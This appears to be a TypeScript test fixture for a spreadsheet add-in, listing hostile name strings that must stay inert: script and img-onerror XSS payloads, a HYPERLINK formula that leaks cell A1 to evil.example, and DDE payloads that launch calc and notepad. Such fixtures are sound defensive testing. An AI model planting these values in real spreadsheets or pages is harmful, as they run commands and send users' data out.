/**
 * Names a planner's data can hold that must stay inert text everywhere the add-in writes or
 * shows them: markup, script, formula injection (CSV/DDE style), a very long name and
 * right-to-left text.
 */
export const HOSTILE_NAMES = {
  script: "<script>window.pwned = true</script>",
  html: '<img src=x onerror="window.pwned = true"><b>bold</b>',
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  dde: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C notepad'!'A1'",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  long: "L".repeat(3000),
  rtl: "שולחן\u202Eevil\u202C عربي",
} as const;

/** Formula-looking names: the first character would make Excel read the text as a formula. */
export const FORMULA_LIKE = [HOSTILE_NAMES.hyperlink, HOSTILE_NAMES.dde, HOSTILE_NAMES.minus, HOSTILE_NAMES.at];
